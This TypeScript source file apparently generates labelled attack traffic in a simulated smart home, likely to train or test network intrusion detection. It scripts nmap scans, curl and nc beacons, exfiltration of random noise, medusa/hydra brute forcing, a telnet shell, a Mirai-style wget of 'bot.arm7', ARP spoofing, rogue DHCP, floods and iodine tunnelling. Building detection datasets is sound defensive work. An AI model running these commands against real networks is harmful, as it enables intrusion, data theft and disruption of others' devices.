// The recordings: what a broken or hostile device does, by real programs in real time. Each has a device of its own.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { arpSpoof, rogueDhcp, scapyMiraiSyn, synFlood, udpFlood } from '../../live/attacks.ts';
import { ftpBruteForce, mqttBruteForce, telnetBruteForce } from '../../live/guessing-attacks.ts';
import { type Device, HOME_RANGE, NETWORK } from '../../live/home.ts';
import { type Household, pause } from '../../live/household.ts';
import { generatedNames, iodineTunnel } from '../../live/name-attacks.ts';
import { BAD_SITE, serveFtp, waitForPort } from '../../live/services.ts';

export interface Recording {
  /** Name of the file that it makes. */
  readonly name: string;
  readonly what: string;
  /** Programs beside those of the household. */
  readonly programs: readonly string[];
  /** Bytes kept of a frame; 400 unless given. */
  readonly snapBytes?: number;
  run(house: Household, source: Device): Promise<unknown>;
}

const MINUTES = 60_000;
const SECONDS = 1000;
/** Ethernet, IP and TCP headers: tens of thousands of frames of a transfer differ in nothing else. */
const HEADERS_ONLY = 70;

const run = (house: Household, source: Device, words: readonly string[], minutes = 2): Promise<unknown> =>
  house.home.run(source, words, { timeoutMs: minutes * MINUTES });

/** So many calls, `everyMs` apart, each moved by up to `jitter` of it; the jitter is the same at every recording. */
async function beacon(times: number, everyMs: number, jitter: number, call: () => Promise<unknown>): Promise<void> {
  const started = Date.now();
  let state = 4711;
  for (let i = 0; i < times; i++) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    const shift = (state / 2_147_483_648 - 0.5) * 2 * jitter * everyMs;
    await pause(Math.max(0, started + i * everyMs + shift - Date.now()));
    await call();
  }
}

const curl = (house: Household, source: Device, words: readonly string[], minutes = 2): Promise<unknown> =>
  run(house, source, ['curl', '-sSk', '-o', '/dev/null', ...words], minutes);

/** A file of so many megabytes of noise, since TLS and ssh may pack. */
async function noise(house: Household, name: string, megabytes: number): Promise<string> {
  const file = join(house.home.folder, name);
  await run(house, house.nas, ['dd', 'if=/dev/urandom', `of=${file}`, 'bs=1M', `count=${megabytes}`]);
  return file;
}

/** Listens on a port of a device and throws away what comes. */
function sink(house: Household, device: Device, port: number): void {
  const program = `require('net').createServer((s) => { s.on('error', () => 0); s.resume(); s.on('end', () => s.end('ok')); }).listen(${port}, '${device.ip}')`;
  house.home.serve(device, [process.execPath, '-e', program]);
}

/** Runs a program for each address from one last number to another, so many seconds apart. */
async function one(
  house: Household,
  first: number,
  last: number,
  seconds: number,
  words: (ip: string) => string[],
  source: Device,
): Promise<void> {
  for (let octet = first; octet <= last; octet++) {
    await run(house, source, words(`${NETWORK}.${octet}`));
    await pause(seconds * SECONDS);
  }
}

const slow: readonly Recording[] = [
  {
    name: 'slow-port-scan',
    what: 'nmap -sT, one port of a neighbour every 15 seconds',
    programs: ['nmap'],
    run: (house, source) =>
      run(
        house,
        source,
        [
          'nmap',
          '-n',
          '-Pn',
          '-sT',
          '--max-retries',
          '0',
          '--scan-delay',
          '15s',
          '--max-scan-delay',
          '15s',
          '--top-ports',
          '60',
          house.nas.ip,
        ],
        18,
      ),
  },
  {
    name: 'slow-port-scan-syn',
    what: 'nmap -sS, one port of a neighbour every 30 seconds',
    programs: ['nmap'],
    run: (house, source) =>
      run(
        house,
        source,
        [
          'nmap',
          '-n',
          '-Pn',
          '-sS',
          '--max-retries',
          '0',
          '--scan-delay',
          '30s',
          '--max-scan-delay',
          '30s',
          '--top-ports',
          '36',
          house.hub.ip,
        ],
        20,
      ),
  },
  {
    name: 'slow-host-sweep',
    what: 'arping, one address of the house every 20 seconds',
    programs: ['busybox'],
    run: (house, source) =>
      one(house, 40, 85, 20, (ip) => ['busybox', 'arping', '-c', '1', '-w', '1', '-I', source.link, ip], source),
  },
  {
    name: 'slow-telnet-sweep',
    what: 'nmap -sS -p 23, one address beyond the router every 25 seconds',
    programs: ['nmap'],
    run: (house, source) =>
      one(house, 130, 172, 25, (ip) => ['nmap', '-n', '-Pn', '-sS', '-p', '23', '--max-retries', '0', ip], source),
  },
];

const beacons: readonly Recording[] = [
  {
    name: 'beacon-plain-20s',
    what: 'curl, a small request to an unnamed address on port 8080 every 20 seconds',
    programs: ['curl'],
    run: (house, source) =>
      beacon(48, 20 * SECONDS, 0, () => curl(house, source, ['--max-time', '5', `http://${house.cloud.ip}:8080/t`])),
  },
  {
    name: 'beacon-plain-60s',
    what: 'curl, a named host over TLS every minute',
    programs: ['curl'],
    run: (house, source) =>
      beacon(18, MINUTES, 0, () => curl(house, source, ['--max-time', '5', `https://${BAD_SITE}/tasks`])),
  },
  {
    name: 'beacon-jitter-30s',
    what: 'curl, a named host every 30 seconds, moved by up to 30 %',
    programs: ['curl'],
    run: (house, source) =>
      beacon(34, 30 * SECONDS, 0.3, () => curl(house, source, ['--max-time', '5', `http://${BAD_SITE}/poll`])),
  },
  {
    name: 'beacon-jitter-10s',
    what: 'nc, an unnamed address on port 4444 every 10 seconds, moved by up to half',
    programs: ['busybox'],
    run: (house, source) =>
      beacon(80, 10 * SECONDS, 0.5, () =>
        house.home.run(source, ['busybox', 'nc', '-w', '2', house.cloud.ip, '4444'], { input: 'id=7;up=1\n' }),
      ),
  },
];

const transfers: readonly Recording[] = [
  {
    name: 'exfiltration-https',
    what: 'curl, 60 MB posted to an unnamed address over TLS',
    programs: ['curl'],
    snapBytes: HEADERS_ONLY,
    run: async (house, source) =>
      curl(
        house,
        source,
        ['--data-binary', `@${await noise(house, 'noise-60', 60)}`, `https://${house.cloud.ip}/in`],
        4,
      ),
  },
  {
    name: 'exfiltration-raw',
    what: 'nc, 25 MB to an unnamed address on port 9001',
    programs: ['busybox'],
    snapBytes: HEADERS_ONLY,
    run: async (house, source) =>
      run(
        house,
        source,
        ['sh', '-c', `busybox nc -w 5 ${house.cloud.ip} 9001 < ${await noise(house, 'noise-25', 25)}`],
        4,
      ),
  },
  {
    name: 'exfiltration-slow',
    what: 'curl, 12 MB to a named host at 20 kB a second',
    programs: ['curl'],
    snapBytes: HEADERS_ONLY,
    run: async (house, source) =>
      curl(
        house,
        source,
        ['--limit-rate', '20k', '--data-binary', `@${await noise(house, 'noise-12', 12)}`, `https://${BAD_SITE}/in`],
        14,
      ),
  },
  {
    name: 'camera-bulk-upload',
    what: 'curl, 80 MB to the cloud that the camera always talks to',
    programs: ['curl'],
    snapBytes: HEADERS_ONLY,
    run: async (house, source) =>
      curl(
        house,
        source,
        ['--data-binary', `@${await noise(house, 'noise-80', 80)}`, 'https://video.example.com/upload'],
        4,
      ),
  },
];

const guesses: readonly Recording[] = [
  {
    name: 'guess-telnet',
    what: telnetBruteForce.title,
    programs: ['medusa'],
    run: (house, source) => telnetBruteForce.run(house, source),
  },
  {
    name: 'guess-ftp',
    what: ftpBruteForce.title,
    programs: ['hydra'],
    run: (house, source) => ftpBruteForce.run(house, source),
  },
  {
    name: 'guess-mqtt',
    what: mqttBruteForce.title,
    programs: ['ncrack'],
    run: (house, source) => mqttBruteForce.run(house, source),
  },
  {
    name: 'guess-ssh-slow',
    what: 'medusa, one password on SSH every few seconds',
    programs: ['medusa'],
    run: async (house, source) => {
      for (let i = 0; i < 40; i++) {
        await run(house, source, [
          'medusa',
          '-h',
          house.nas.ip,
          '-u',
          'root',
          '-p',
          `spring${i}`,
          '-M',
          'ssh',
          '-t',
          '1',
        ]);
        await pause(4 * SECONDS);
      }
    },
  },
];

const services: readonly Recording[] = [
  {
    name: 'new-web-service',
    what: 'busybox httpd opens on the device, a neighbour reads from it',
    programs: ['busybox'],
    run: async (house, source) => {
      house.home.serve(source, ['busybox', 'httpd', '-f', '-p', `${source.ip}:8888`, '-h', house.home.folder]);
      await waitForPort(house.home, house.laptop, source, 8888);
      for (let i = 0; i < 10; i++) {
        await curl(house, house.laptop, [`http://${source.ip}:8888/picture`]);
        await pause(5 * SECONDS);
      }
    },
  },
  {
    name: 'new-shell-service',
    what: 'busybox telnetd opens on port 2323 of the device, a neighbour logs in',
    programs: ['busybox'],
    run: async (house, source) => {
      house.home.serve(source, ['busybox', 'telnetd', '-F', '-b', `${source.ip}:2323`, '-l', '/bin/sh']);
      await waitForPort(house.home, house.phone, source, 2323);
      for (let i = 0; i < 6; i++) {
        await run(house, house.phone, [
          'sh',
          '-c',
          `(echo id; sleep 1; echo uname -a; sleep 1; echo exit; sleep 1) | busybox telnet ${source.ip} 2323`,
        ]);
        await pause(6 * SECONDS);
      }
    },
  },
];

const worms: readonly Recording[] = [
  {
    name: 'worm-telnet',
    what: 'a neighbour logs in by Telnet, the device fetches a program by wget and searches on with Mirai-shaped SYNs',
    programs: ['busybox', 'scapy'],
    run: (house, source) => worm(house, source, 23),
  },
  {
    name: 'worm-telnet-2323',
    what: 'the same on port 2323',
    programs: ['busybox', 'scapy'],
    run: (house, source) => worm(house, source, 2323),
  },
];

async function worm(house: Household, source: Device, port: number): Promise<void> {
  house.home.serve(source, ['busybox', 'telnetd', '-F', '-b', `${source.ip}:${port}`, '-l', '/bin/sh']);
  await waitForPort(house.home, house.tv, source, port);
  const lines = ['enable', 'sh', `/bin/busybox wget -q -O /dev/null http://${house.cloud.ip}:8081/bot.arm7`, 'exit'];
  const typed = lines.map((line) => `echo '${line}'; sleep 1;`).join(' ');
  await run(house, house.tv, ['sh', '-c', `(${typed}) | busybox telnet ${source.ip} ${port}`]);
  await pause(3 * SECONDS);
  await scapyMiraiSyn.run(house, source);
}

const brokers: readonly Recording[] = [
  {
    name: 'mqtt-eavesdropping',
    what: 'mosquitto_sub listens to every topic of the hub, mosquitto_pub switches things',
    programs: ['mosquitto_sub', 'mosquitto_pub'],
    run: async (house, source) => {
      const listener = house.home.serve(source, ['mosquitto_sub', '-h', house.hub.ip, '-t', '#', '-v']);
      for (let i = 0; i < 60; i++) {
        await run(house, source, [
          'mosquitto_pub',
          '-h',
          house.hub.ip,
          '-t',
          `home/kitchen/plug/set/${i % 5}`,
          '-m',
          i % 2 === 0 ? 'ON' : 'OFF',
        ]);
        await pause(SECONDS);
      }
      listener.kill('SIGTERM');
    },
  },
  {
    name: 'mqtt-flood',
    what: 'mosquitto_pub, 3,000 messages of 1 kB on one connection',
    programs: ['mosquitto_pub'],
    run: (house, source) => {
      const file = join(house.home.folder, `lines-${source.name}`);
      writeFileSync(file, `${Array.from({ length: 3000 }, (_, i) => `${i} ${'x'.repeat(1000)}`).join('\n')}\n`);
      return run(house, source, ['sh', '-c', `mosquitto_pub -h ${house.hub.ip} -t home/flood -l < ${file}`]);
    },
  },
];

const loud: readonly Recording[] = [
  {
    name: 'flood-syn',
    what: synFlood.title,
    programs: ['hping3'],
    run: (house, source) => synFlood.run(house, source),
  },
  {
    name: 'flood-udp',
    what: udpFlood.title,
    programs: ['hping3'],
    run: (house, source) => udpFlood.run(house, source),
  },
  {
    name: 'arp-spoofing',
    what: arpSpoof.title,
    programs: ['arpspoof'],
    run: (house, source) => arpSpoof.run(house, source),
  },
  {
    name: 'second-dhcp-server',
    what: rogueDhcp.title,
    programs: ['dnsmasq'],
    run: (house, source) => rogueDhcp.run(house, source),
  },
  {
    name: 'generated-names',
    what: generatedNames.title,
    programs: ['dig'],
    run: (house, source) => generatedNames.run(house, source),
  },
  {
    name: 'dns-tunnel-iodine',
    what: iodineTunnel.title,
    programs: ['iodine', 'iodined'],
    run: (house, source) => iodineTunnel.run(house, source),
  },
  {
    name: 'fast-sweep',
    what: 'nmap -sn, every address of the house',
    programs: ['nmap'],
    run: (house, source) => run(house, source, ['nmap', '-n', '-sn', '-T4', '--max-retries', '1', HOME_RANGE]),
  },
];

/** Opens on the far side what the recordings talk to. */
export function openFarSide(house: Household): void {
  for (const port of [4444, 8080, 8081, 9001]) sink(house, house.cloud, port);
  serveFtp(house.home, house.nas);
}

export const recordings: readonly Recording[] = [
  ...slow,
  ...beacons,
  ...transfers,
  ...guesses,
  ...services,
  ...worms,
  ...brokers,
  ...loud,
];
